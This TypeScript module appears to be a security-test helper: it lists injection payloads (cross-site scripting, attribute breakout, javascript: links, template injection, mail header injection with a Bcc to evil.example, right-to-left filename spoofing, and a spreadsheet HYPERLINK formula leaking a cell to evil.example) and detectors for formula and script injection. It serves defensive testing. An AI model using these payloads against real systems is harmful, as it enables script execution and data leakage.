/** Texts that do harm where they are shown without care; `name` marks the field they were typed into. */
export const PAYLOADS: Record<string, (name: string) => string> = {
  script: (name) =>
    `<img src=x onerror="window.attacked='${name}'"><script>window.attacked='${name}'</script>`,
  attribute: (name) => `" autofocus onfocus="window.attacked='${name}'" data-attacked='${name}' x='`,
  link: (name) => `javascript:window.attacked='${name}'`,
  template: (name) => `{{constructor.constructor("window.attacked='${name}'")()}}\${7*7}<%= 7*7 %>`,
  header: (name) => `${name}\r\nBcc: victim@evil.example\r\nContent-Type: text/html\r\n\r\n<b>${name}</b>`,
  'right to left': (name) => `${name}\u202Efdp.exe\u2066\u200F`,
  formula: (name) => `=HYPERLINK("https://evil.example?"&A1,"${name}")`,
  'formula in the middle': (name) => `${name};=1+1;\t=2+2\n=3+3\r+4+4;@SUM(5)`,
};

/** Characters with which a spreadsheet formula starts, full-width forms included. */
const FORMULA = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;

/** Quotes and invisible characters that a spreadsheet drops before it reads a cell. */
const DROPPED = /^["\p{Z}\p{C}]+/u;

const isFormula = (cell: string): boolean => {
  const text = cell.replace(DROPPED, '');
  return FORMULA.test(text) && !/^-?\d+(\.\d+)?"?$/.test(text);
};

/** Cells of an RFC 4180 file. */
const cellsOf = (file: string): string[] =>
  [...file.matchAll(/(?:^|,|\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain]) =>
    (quoted ?? plain ?? '').replaceAll('""', '"'),
  );

/** Cells that run as a formula: in the file as written, or split at a separator of another spreadsheet. */
export const formulasIn = (file: string): string[] =>
  [...cellsOf(file), ...file.split(/[;\t\r\n]/)].filter(isFormula);

/** Markup of the payloads that would run, found in a page or mail. */
export const runsIn = (markup: string, name: string): boolean =>
  [
    `<img src=x onerror="window.attacked='${name}'`,
    `<script>window.attacked='${name}'`,
    `href="javascript:window.attacked='${name}'`,
    `" autofocus onfocus="window.attacked='${name}'"`,
  ].some((raw) => markup.includes(raw));
